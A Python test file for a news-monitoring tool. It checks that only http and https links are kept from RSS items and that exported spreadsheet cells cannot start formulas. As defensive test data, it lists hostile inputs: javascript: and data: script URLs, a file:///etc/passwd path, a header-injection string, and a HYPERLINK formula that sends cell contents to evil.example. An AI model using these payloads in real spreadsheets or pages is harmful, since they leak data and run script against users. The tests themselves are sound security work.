"""Links are http(s) only, from the contract on (anything else stays as text), and no exported
spreadsheet cell can start a formula."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from tests.collectors.test_rss import shipped
from triggerwatch.collectors.base import RawPayload
from triggerwatch.core.contracts import EventKind, Evidence, TriggerEventV1, decode_event, encode, web_url
from triggerwatch.core.spreadsheet import safe_cell

T = datetime(2026, 11, 24, 12, tzinfo=UTC)
NOT_LINKS = [
    "javascript:alert(1)",
    " JavaScript:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "//evil.example/x",
    "/uutiset/1",
    "http://",
    "https://exa mple.fi/",
    "https://example.fi/\nSet-Cookie: x",
    "vbscript:msgbox(1)",
]


@pytest.mark.parametrize("value", NOT_LINKS)
def test_only_http_urls_are_links_the_rest_is_kept_as_text(value: str) -> None:
    assert web_url(value) is None
    evidence = Evidence(url=value, source="rss", title="t")
    assert evidence.url is None and evidence.url_text == value.strip()
    event = TriggerEventV1.create(
        source="rss", source_item_id="1", source_url=value, kind=EventKind.NEWS, occurred_at=T,
        observed_at=T, title="t", evidence=[evidence],
    )  # fmt: skip
    again = decode_event(encode(event))  # survives the topic
    assert again.source_url is None and again.source_url_text == value.strip()
    assert again.evidence[0].url is None and again.evidence[0].url_text == value.strip()


def test_http_and_https_urls_stay_links() -> None:
    for url in ("https://www.kela.fi/uutiset?id=1&lang=fi", "HTTP://Example.FI/x", "http://[::1]:8080/a"):
        assert Evidence(url=url, source="s").url == url and web_url(f" {url} ") == url
    assert "url_text" not in Evidence(url="https://kela.fi", source="s").model_dump()


def test_the_rss_collector_links_only_http_and_resolves_relative_links() -> None:
    feed = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>
    <link>https://www.ampparit.com/</link>
    <item><title>Kela rekrytoi</title><link>javascript:alert(1)</link><guid>a</guid></item>
    <item><title>Kela kasvaa</title><link>/uutiset/2</link><guid>b</guid></item>
    </channel></rss>"""
    source = shipped("ampparit-news")
    raw = RawPayload(source=source.name, url="https://www.ampparit.com/feed.xml", content=feed, fetched_at=T)
    bad, relative = source.collector.parse(raw)
    assert bad.source_url is None and bad.source_url_text == "javascript:alert(1)"
    assert bad.evidence[0].url is None and bad.evidence[0].url_text == "javascript:alert(1)"
    assert relative.source_url == "https://www.ampparit.com/uutiset/2"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example/?d="&A1,"Avaa")',
            '\'=HYPERLINK("http://evil.example/?d="&A1,"Avaa")',
        ),
        ("+358 40 123", "'+358 40 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("Kela", "Kela"),
        ("", ""),
        (0.82, 0.82),
        (None, None),
    ],
)
def test_formula_cells_are_neutralised(cell: object, safe: object) -> None:
    assert safe_cell(cell) == safe
